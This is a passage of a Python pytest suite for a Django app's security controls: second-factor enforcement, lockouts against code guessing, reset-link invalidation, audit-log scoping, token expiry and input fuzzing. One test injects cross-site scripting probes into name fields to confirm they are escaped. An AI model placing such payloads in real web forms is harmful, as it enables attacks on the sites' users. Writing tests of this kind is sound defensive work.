        assert as_user(Client(), cast.admin).get(reverse("audit-log"), {name: value}).status_code in (200, 400)

    def test_no_mail_or_code_leaks_through_a_reset_by_email(self, cast: SimpleNamespace) -> None:
        """The e-mailed reset of a GBV focal point goes to their address only, and nothing is logged with it."""
        Client().post(reverse("password_reset"), {"email": "gbv@example.org"})
        assert [message.to for message in mail.outbox] == [["gbv@example.org"]]


@pytest.mark.usefixtures("otp_required")
class TestSecondFactorForSuperusers:
    def test_a_superuser_of_any_role_passes_the_second_factor(self, cast: SimpleNamespace) -> None:
        """A superuser whose role was left at (or set to) viewer still manages every user on the users page (and
        grants the GBV focal point role): admins need a second factor, so does whoever can make anyone an admin."""
        User.objects.filter(pk=cast.superuser.pk).update(role="viewer")
        enrolled(cast.superuser)
        client = Client()
        password_login(client, "root")
        response = client.get("/users/")
        assert response.status_code == 302
        assert response["Location"].startswith(VERIFY)
        api = APIClient().post(TOKEN_URL, {"username": "root", "password": PASSWORD}, format="json")
        assert api.status_code == 400
        assert not ApiToken.objects.filter(user=cast.superuser).exists()

    def test_a_reset_device_unverifies_the_open_session(self, cast: SimpleNamespace) -> None:
        device = enrolled(cast.admin)
        client = Client()
        password_login(client, "admin")
        assert client.post(VERIFY, {"code": code(device)}).status_code == 302
        assert client.get("/users/").status_code == 200
        TOTPDevice.objects.filter(user=cast.admin).delete()
        response = client.get("/users/")
        assert response.status_code == 302
        assert response["Location"].startswith(ENROL)


@pytest.mark.usefixtures("otp_required")
def test_signing_in_again_does_not_reset_the_count_of_wrong_codes(cast: SimpleNamespace, settings: Settings) -> None:
    """Whoever holds the password signs in again after each few wrong codes: a successful password must not wipe
    the count of wrong codes (django-axes resets failures on success), or codes are guessed without a lockout."""
    enrolled(cast.admin)
    limit = settings.AXES_FAILURE_LIMIT
    statuses: list[int] = []
    for _round in range(3):
        client = Client()
        login = client.post(reverse("login"), {"username": "admin", "password": PASSWORD})
        statuses.append(login.status_code)
        statuses += [client.post(VERIFY, {"code": f"{n:06d}"}).status_code for n in range(limit - 1)]
    assert 429 in statuses, statuses


def test_a_complete_sign_in_still_forgets_earlier_failures(cast: SimpleNamespace, settings: Settings) -> None:
    """The other side of the lockout above: a monitor (no second factor) who mistyped, then signed in, starts afresh."""
    limit = settings.AXES_FAILURE_LIMIT
    for _round in range(2):
        for _n in range(limit - 1):
            Client().post(reverse("login"), {"username": "monitor", "password": "wrong-" + PASSWORD})
        password_login(Client(), "monitor")


@pytest.mark.usefixtures("otp_required")
def test_a_right_code_forgets_earlier_failures(cast: SimpleNamespace, settings: Settings) -> None:
    device = enrolled(cast.admin)
    for _n in range(settings.AXES_FAILURE_LIMIT - 1):
        Client().post(reverse("login"), {"username": "admin", "password": "wrong-" + PASSWORD})
    client = Client()
    password_login(client, "admin")
    assert client.post(VERIFY, {"code": code(device)}).status_code == 302
    for _n in range(settings.AXES_FAILURE_LIMIT - 1):
        Client().post(reverse("login"), {"username": "admin", "password": "wrong-" + PASSWORD})
    password_login(Client(), "admin")


ODD_VALUES = ["", "\x00", "٣٣٣٣٣٣", "1" * 5000, "١٢٣٤٥٦", "12 34 56", "<b>", "NaN", "-1", "9" * 40]


@pytest.mark.usefixtures("otp_required")
@pytest.mark.parametrize("value", ODD_VALUES)
def test_second_factor_pages_never_answer_500(cast: SimpleNamespace, value: str) -> None:
    enrolled(cast.admin)
    client = Client()
    password_login(client, "admin")
    assert client.post(VERIFY, {"code": value, "next": value}).status_code in (302, 400)
    assert client.get(VERIFY, {"next": value}).status_code == 200
    fresh = Client()
    password_login(fresh, "monitor")  # no device, no need: may enrol
    assert fresh.post(ENROL, {"code": value, "next": value}).status_code in (200, 400)
    api = APIClient().post(TOKEN_URL, {"username": "admin", "password": PASSWORD, "otp": value}, format="json")
    assert api.status_code in (400, 429)


@pytest.mark.parametrize("value", ODD_VALUES)
def test_users_and_tokens_pages_never_answer_500(cast: SimpleNamespace, value: str) -> None:
    client = as_user(Client(), cast.region_admin)
    for field in ("username", "first_name", "email", "role", "organisation", "regions"):
        response = client.post(reverse("user-create"), new_user_form(**{field: value}))
        assert response.status_code in (200, 400), field
        response = client.post(
            reverse("user-edit", args=[cast.mopti_monitor.pk]), form_of(cast.mopti_monitor, **{field: value})
        )
        assert response.status_code in (302, 400), field
    assert client.post(reverse("user-create"), {}).status_code == 400
    assert client.post(reverse("user-edit", args=[cast.mopti_monitor.pk]), {}).status_code == 400
    assert client.post(reverse("user-deactivate", args=[cast.mopti_monitor.pk]), {"confirm": value}).status_code in (
        200,
        302,
    )
    tokens = as_user(Client(), cast.monitor)
    for field in ("name", "days"):
        data = {"name": "script", "days": "3", field: value}
        assert tokens.post(reverse("tokens"), data).status_code in (200, 400), field
    assert tokens.get(reverse("tokens"), {"page": value}).status_code == 200
    assert client.get(reverse("user-list"), {"page": value}).status_code in (200, 400)


def use_reset_link(path: str, password: str = NEW_PASSWORD) -> bool:
    """Follow a reset link as its holder would; whether the new password was taken."""
    client = Client()
    response = client.get(path, follow=True)
    if not response.redirect_chain:
        return False
    done = client.post(response.redirect_chain[-1][0], {"new_password1": password, "new_password2": password})
    return done.status_code == 302


def test_a_reset_link_dies_when_the_account_becomes_a_gbv_focal_points(cast: SimpleNamespace) -> None:
    """An admin makes the one-time link of a monitor of theirs (and keeps it); a superuser then makes that account a
    GBV focal point. The link must not open the focal point's account: an admin never takes one over."""
    link = services.reset_link(user=cast.mopti_monitor, by=cast.region_admin)
    services.user_change(
        user=cast.mopti_monitor,
        by=cast.superuser,
        role="gbv_focal_point",
        organisation=cast.lead,
        regions=[region("ML05")],
        first_name="",
        last_name="",
        email="mopti_monitor@example.org",
    )
    assert not use_reset_link(link.path)
    assert not User.objects.get(pk=cast.mopti_monitor.pk).check_password(NEW_PASSWORD)


def test_a_reset_link_still_works_once_for_its_owner(cast: SimpleNamespace) -> None:
    link = services.reset_link(user=cast.mopti_monitor, by=cast.region_admin)
    assert use_reset_link(link.path)
    assert User.objects.get(pk=cast.mopti_monitor.pk).check_password(NEW_PASSWORD)
    assert not use_reset_link(link.path, password=NEW_PASSWORD + "-again")


def test_an_emailed_reset_link_works(cast: SimpleNamespace) -> None:
    Client().post(reverse("password_reset"), {"email": "mopti_monitor@example.org"})
    path = re.search(r"/accounts/reset/[^/\s]+/[^/\s]+/", str(mail.outbox[-1].body))
    assert path is not None
    assert use_reset_link(path.group(0))


def test_a_reset_link_dies_when_the_account_leaves_the_admins_scope(cast: SimpleNamespace) -> None:
    """The Mopti admin's link for a Mopti monitor must not open the account once another admin moved it to Gao."""
    link = services.reset_link(user=cast.mopti_monitor, by=cast.region_admin)
    services.user_change(
        user=cast.mopti_monitor,
        by=cast.admin,
        role="monitor",
        organisation=cast.lead,
        regions=[region("ML07")],
        first_name="",
        last_name="",
        email="mopti_monitor@example.org",
    )
    assert not use_reset_link(link.path)


def test_names_typed_by_others_are_shown_as_text(cast: SimpleNamespace) -> None:
    """A user name typed at a failed sign-in, and names an admin gave, are escaped on the audit log and users pages."""
    Client().post(reverse("login"), {"username": "<script>alert(1)</script>", "password": "x"})
    services.user_change(
        user=cast.mopti_monitor,
        by=cast.region_admin,
        role="monitor",
        organisation=cast.lead,
        regions=[region("ML05")],
        first_name='<img src=x onerror="alert(1)">',
        last_name="</td><script>alert(2)</script>",
        email="mopti_monitor@example.org",
    )
    for user, url in ((cast.admin, reverse("audit-log")), (cast.region_admin, reverse("user-list"))):
        body = as_user(Client(), user).get(url).content.decode()
        assert "<script>alert" not in body, url
        assert "<img src=x" not in body, url


def test_a_used_token_keeps_its_expiry(cast: SimpleNamespace) -> None:
    """No refresh on use (knox AUTO_REFRESH off): a script's token cannot be kept alive past the days chosen."""
    token, key = ApiToken.objects.create(user=cast.monitor, name="script", expiry=datetime.timedelta(days=1))
    expiry = token.expiry
    assert token_client(key).get("/api/v1/incidents/").status_code == 200
    token.refresh_from_db()
    assert token.expiry == expiry


@pytest.mark.usefixtures("otp_required")
def test_a_backup_code_works_once(cast: SimpleNamespace) -> None:
    enrolled(cast.admin)
    device = StaticDevice.objects.create(user=cast.admin, name="backup", confirmed=True)
    device.token_set.create(token="abcd2345")  # noqa: S106 -- a test backup code
    first = Client()
    password_login(first, "admin")
    assert first.post(VERIFY, {"code": "abcd2345"}).status_code == 302
    second = Client()
    password_login(second, "admin")
    assert second.post(VERIFY, {"code": "abcd2345"}).status_code == 400
    assert second.get("/users/").status_code == 302


@pytest.mark.parametrize(
    "body",
    [
        [],
        "text",
        {"username": "\x00", "password": "x"},
        {"username": "admin", "password": "\x00"},
        {"username": ["admin"], "password": PASSWORD},
        {"username": "a" * 100_000, "password": "x"},
        {"username": "admin", "password": "p" * 100_000},
        {"username": "٣", "password": "٣", "otp": "٣"},
        {"username": None, "password": None},
        {},
    ],
)
def test_the_token_endpoint_never_answers_500(cast: SimpleNamespace, body: Any) -> None:
    response = APIClient().post(TOKEN_URL, body, format="json")
    assert response.status_code in (400, 429), response.content[:200]
    assert not ApiToken.objects.exists()


def test_the_users_page_ignores_a_posted_superuser_flag(cast: SimpleNamespace) -> None:
    client = as_user(Client(), cast.admin)
    extra = {"is_superuser": "on", "is_staff": "on", "user_permissions": [1], "groups": [1]}
    client.post(reverse("user-create"), {**new_user_form(), **extra})
    client.post(reverse("user-edit", args=[cast.monitor.pk]), {**form_of(cast.monitor), **extra})
    assert not User.objects.filter(is_superuser=True).exclude(pk=cast.superuser.pk).exists()
    assert not User.objects.get(pk=cast.monitor.pk).user_permissions.exists()


def test_an_admin_moved_into_scope_does_not_bring_their_past_targets_along(cast: SimpleNamespace) -> None:
    """mopti_peer was an admin of every region and changed a Gao monitor's account; restricted to Mopti later, they
    are in the Mopti admin's scope, but the Gao monitor is not: the entry that names the monitor stays out of sight."""

    def change(user: User, by: User, regions: list[str], first_name: str = "") -> None:
        services.user_change(
            user=user,
            by=by,
            role=user.role,
            organisation=cast.lead,
            regions=[region(pcode) for pcode in regions],
            first_name=first_name,
            last_name="",
            email=user.email,
        )

    change(cast.mopti_peer, cast.superuser, [])
    change(cast.supervisor, User.objects.get(pk=cast.mopti_peer.pk), ["ML07"], first_name="Moussa")
    change(User.objects.get(pk=cast.mopti_peer.pk), cast.superuser, ["ML05"])
    client = as_user(Client(), cast.region_admin)
    page = client.get(reverse("audit-log")).content.decode()
    rows = re.search(r"<tbody>(.*?)</tbody>", page, re.S)
    assert "supervisor" not in (rows.group(1) if rows else "")
    csv_text = b"".join(typing.cast(Any, client.get(reverse("audit-log"), {"format": "csv"})).streaming_content)
    assert b"supervisor" not in csv_text
    # Their own sign-ins and what they did in Mopti stay readable.
    assert "mopti_peer" in (rows.group(1) if rows else "")


class TestPeerAdminTakeover:
    """An admin must not take over a peer admin's account: its e-mail (where a reset link goes), a reset link and
    reactivation are a superuser's, as for GBV focal points. Deactivating a peer only takes access away."""

    def test_a_peer_admin_cannot_make_a_reset_link_for_another_admin(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.region_admin)
        response = client.post(reverse("user-reset-link", args=[cast.mopti_peer.pk]))
        assert response.status_code in {302, 403}
        assert not AuditEntry.objects.filter(action=AuditEntry.Action.RESET_LINK).exists()

    def test_a_peer_admin_cannot_change_another_admins_email(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.region_admin)
        client.post(reverse("user-edit", args=[cast.mopti_peer.pk]), form_of(cast.mopti_peer, email="evil@x.org"))
        cast.mopti_peer.refresh_from_db()
        assert cast.mopti_peer.email != "evil@x.org"

    def test_a_peer_admin_may_still_deactivate_another_admin(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.region_admin)
        client.post(reverse("user-deactivate", args=[cast.mopti_peer.pk]), {"confirm": "1"})
        cast.mopti_peer.refresh_from_db()
        assert not cast.mopti_peer.is_active

    def test_a_superuser_makes_an_admin_a_reset_link(self, cast: SimpleNamespace) -> None:
        client = as_user(Client(), cast.superuser)
        response = client.post(reverse("user-reset-link", args=[cast.mopti_peer.pk]))
        assert response.status_code == 200
        assert AuditEntry.objects.filter(action=AuditEntry.Action.RESET_LINK, target_user=cast.mopti_peer).exists()


class TestTokensDieWithASecondFactorReset:
    def test_a_reset_second_factor_kills_the_users_tokens(self, cast: SimpleNamespace) -> None:
        _token, key = ApiToken.objects.create(user=cast.gbv, name="script")
        assert token_client(key).get("/api/v1/gbv-referrals/").status_code == 200
        client = as_user(Client(), cast.superuser)
        client.post(reverse("user-second-factor-reset", args=[cast.gbv.pk]))
        assert not ApiToken.objects.filter(user=cast.gbv).exists()
        assert token_client(key).get("/api/v1/gbv-referrals/").status_code == 401
